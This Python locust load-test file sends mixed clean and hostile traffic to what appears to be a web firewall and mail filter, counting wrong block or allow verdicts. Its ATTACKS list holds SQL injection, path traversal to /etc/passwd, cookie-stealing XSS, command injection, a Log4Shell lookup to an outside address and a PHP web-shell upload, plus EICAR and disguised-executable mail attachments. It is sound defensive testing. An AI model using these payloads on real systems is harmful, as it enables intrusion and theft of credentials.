"""Who comes: browsers, people who fill in forms, uploaders, attackers, and mail servers.

Each knows what must become of what it sends; another verdict is a failure that is counted by itself, apart from
errors (no answer, a broken connection). Loaded by locust only, in a process of its own (gevent): `tests.load` starts
it and says by the environment where mail goes (LOAD_SMTP) and where to leave the figures (LOAD_REPORT).
"""

from __future__ import annotations

import itertools
import json
import os
import random
import smtplib
import time
from collections import Counter
from pathlib import Path
from urllib.parse import quote, urlencode

from locust import FastHttpUser, User, constant_throughput, events, task
from locust.env import Environment
from locust.stats import RequestStats, StatsEntry

SMTP_PORT = int(os.environ.get("LOAD_SMTP", "2525"))
REPORT = os.environ.get("LOAD_REPORT", "")
ATTACK_PATH = "/attack/"
"""Every hostile request begins so, and no other: a web server that has seen it tells of a wrong verdict."""
TO = "one.example"
_PER_SECOND = 10.0
"""Requests of each user, as far as the answers come in time."""

wrong: Counter[str] = Counter()
_numbers = itertools.count(1)
_WORDS = (
    *("garden", "chair", "table", "lamp", "blue", "green", "road", "reunion"),
    *("select", "order", "from", "where", "drop", "off", "update", "script"),
)
_JSON = {"Content-Type": "application/json"}
_FORM = {"Content-Type": "application/x-www-form-urlencoded"}
_PARTS = {"Content-Type": "multipart/form-data; boundary=b0undary"}
_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1.15",
)


def words(count: int) -> str:
    """Text as people write it, some of it in words that SQL has too."""
    return " ".join(random.choices(_WORDS, k=count))


class WrongVerdict(Exception):
    """Clean traffic refused, or hostile traffic let through."""


class Web(FastHttpUser):
    """Sends a request and checks the status that it must have."""

    abstract = True
    wait_time = constant_throughput(_PER_SECOND)
    network_timeout = connection_timeout = 30.0

    def on_start(self) -> None:
        self.agent = random.choice(_AGENTS)
        self.cookie = f"session={random.getrandbits(64):016x}"

    def ask(self, name: str, expected: int, method: str, target: str, headers: dict[str, str], body: bytes) -> None:
        """One request of the group `name`."""
        number = next(_numbers)
        all_headers = {
            "User-Agent": self.agent,
            "Accept-Language": "en-US,en;q=0.5",
            "Referer": f"https://www.example/list?from={number}",
            "Cookie": f"{self.cookie}; seen={number}",
            **headers,
        }
        with self.client.request(
            method, target, data=body or None, headers=all_headers, name=name, catch_response=True
        ) as answer:
            if answer.status_code == expected:
                answer.success()
            elif answer.status_code in (200, 403):
                wrong[name] += 1
                answer.failure(WrongVerdict(f"{answer.status_code} instead of {expected}: {method} {target[:80]}"))
            else:
                answer.failure(f"status {answer.status_code} ({answer.error})")


class Browser(Web):
    """Reads pages; no two requests are alike."""

    weight = 10

    @task
    def page(self) -> None:
        query = urlencode({"q": words(3), "page": next(_numbers), "sort": "price"})
        self.ask("browse", 200, "GET", f"/shop/{quote(words(1))}?{query}", {}, b"")


class Poster(Web):
    """Fills in forms, in each of the ways in which pages send them."""

    weight = 5

    @task
    def form(self) -> None:
        body = urlencode({"name": "Ada O'Neill", "comment": words(20), "number": next(_numbers)}).encode()
        self.ask("form", 200, "POST", "/contact", _FORM, body)

    @task
    def document(self) -> None:
        body = json.dumps({"order": next(_numbers), "lines": [{"item": words(2), "count": 2}] * 5, "note": words(10)})
        self.ask("form", 200, "POST", "/api/orders", _JSON, body.encode())

    @task
    def parts(self) -> None:
        self.ask("form", 200, "POST", "/profile", _PARTS, part("about", words(30).encode()) + END)


class Uploader(Web):
    """Sends pictures and archives, some of them larger than what is held in memory."""

    weight = 1
    wait_time = constant_throughput(_PER_SECOND / 5)

    @task
    def picture(self) -> None:
        content = b"\xff\xd8\xff\xe0" + random.randbytes(200_000)
        self.ask("upload", 200, "POST", "/photos", _PARTS, part("photo", content, "holiday.jpg") + END)

    @task
    def large(self) -> None:
        self.ask("upload", 200, "PUT", "/archive/a.bin", {"Content-Type": "application/octet-stream"}, LARGE)


class Attacker(Web):
    """Tries what attackers try; each of it must be refused."""

    weight = 4

    @task
    def attack(self) -> None:
        method, target, headers, body = random.choice(ATTACKS)
        self.ask("attack", 403, method, f"{ATTACK_PATH}{next(_numbers)}{target}", headers, body)


def part(name: str, value: bytes, file: str = "") -> bytes:
    """A part of a multipart body."""
    named = f'; filename="{file}"' if file else ""
    return f'--b0undary\r\nContent-Disposition: form-data; name="{name}"{named}\r\n\r\n'.encode() + value + b"\r\n"


END = b"--b0undary--\r\n"
LARGE = random.Random(1).randbytes(2_000_000)
SQL = "1' UNION SELECT login, password FROM users -- "
ATTACKS: tuple[tuple[str, str, dict[str, str], bytes], ...] = (
    ("GET", f"/item?id={quote(SQL)}", {}, b""),
    ("GET", "/item?id=1%27%20OR%20%271%27=%271", {}, b""),
    ("GET", "/show?file=../../../../etc/passwd", {}, b""),
    ("GET", "/static/..%2f..%2f..%2f..%2fetc/passwd", {}, b""),
    ("GET", "/find?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", {}, b""),
    ("GET", "/ping?host=127.0.0.1;cat%20/etc/passwd", {}, b""),
    ("GET", "/", {"User-Agent": "${jndi:ldap://198.51.100.7/a}"}, b""),
    ("GET", "/", {"Referer": f"https://www.example/?q={SQL}"}, b""),
    ("GET", "/", {"Cookie": "theme=<img src=x onerror=alert(1)>"}, b""),
    ("POST", "/login", _FORM, urlencode({"user": SQL}).encode()),
    ("POST", "/api", _JSON, json.dumps({"user": {"name": SQL}}).encode()),
    ("POST", "/profile", _PARTS, part("about", SQL.encode()) + END),
    ("POST", "/photos", _PARTS, part("photo", b"<?php system($_GET[0]); ?>", "a.php") + END),
)

# Assembled, so that no virus scanner takes this file for what it only describes.
EICAR = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-" + "TEST-FILE!$H+H*"
_HEAD = "From: Ada <ada@out.example>\r\nTo: user@one.example\r\nSubject: {}\r\nMIME-Version: 1.0\r\n"
_ATTACHED = (
    'Content-Type: multipart/mixed; boundary="m1me"\r\n\r\n--m1me\r\n\r\nSee the attachment.\r\n--m1me\r\n'
    'Content-Disposition: attachment; filename="{}"\r\n\r\n{}\r\n--m1me--\r\n'
)


class Mailer(User):
    """A mail server: a session for a few messages, most of them clean."""

    weight = 4
    wait_time = constant_throughput(_PER_SECOND / 3)

    @task
    def session(self) -> None:
        try:
            with smtplib.SMTP("127.0.0.1", SMTP_PORT, "client.example", timeout=30) as smtp:
                smtp.ehlo()
                for send in random.choices((self.clean, self.attached, self.hostile), (6, 2, 2), k=3):
                    send(smtp)
        except (OSError, smtplib.SMTPException) as error:
            self.note("mail", time.perf_counter(), 0, error)

    def clean(self, smtp: smtplib.SMTP) -> None:
        self.send(smtp, "mail", 250, _HEAD.format(words(4)) + "\r\n" + (words(12) + "\r\n") * 50)

    def attached(self, smtp: smtplib.SMTP) -> None:
        self.send(
            smtp, "mail", 250, _HEAD.format(words(4)) + _ATTACHED.format("notes.txt", (words(12) + "\r\n") * 30)
        )

    def hostile(self, smtp: smtplib.SMTP) -> None:
        name, content = random.choice((("report.txt", EICAR), ("invoice.pdf.exe", "MZ"), ("a.js", "alert(1)")))
        self.send(smtp, "mail attack", 550, _HEAD.format("invoice") + _ATTACHED.format(name, content))

    def send(self, smtp: smtplib.SMTP, name: str, expected: int, message: str) -> None:
        began, error = time.perf_counter(), None
        smtp.mail("ada@out.example")
        code, text = smtp.rcpt(f"{next(_numbers)}@{TO}")
        if code == 250:
            code, text = smtp.data(message.encode())
        if code != expected:
            error = f"{code} {text.decode('latin-1')} instead of {expected}"
            if code in (250, 550):
                wrong[name] += 1
        self.note(name, began, len(message), error)

    def note(self, name: str, began: float, size: int, error: object) -> None:
        self.environment.events.request.fire(
            request_type="SMTP",
            name=name,
            response_time=(time.perf_counter() - began) * 1000,
            response_length=size,
            exception=None if error is None else WrongVerdict(str(error)),
            context={},
        )


def merged(stats: RequestStats) -> list[StatsEntry]:
    """The figures of each group, whatever the methods."""
    groups: dict[str, StatsEntry] = {}
    for entry in sorted(stats.entries.values(), key=lambda entry: entry.name):
        groups.setdefault(entry.name, StatsEntry(stats, entry.name, "")).extend(entry)
    return list(groups.values())


@events.quitting.add_listener
def report(environment: Environment, **_: object) -> None:
    """Leave the figures for `tests.load`."""
    if not REPORT:
        return
    rows = [
        {
            "name": entry.name,
            "requests": entry.num_requests,
            "seconds": entry.last_request_timestamp - entry.start_time,
            "p50": entry.get_response_time_percentile(0.5),
            "p99": entry.get_response_time_percentile(0.99),
            "errors": entry.num_failures - wrong[entry.name],
            "wrong": wrong[entry.name],
        }
        for entry in merged(environment.stats)
    ]
    said = [f"{error.occurrences} times {error.name}: {error.error}" for error in environment.stats.errors.values()]
    Path(REPORT).write_text(json.dumps({"rows": rows, "said": said}))
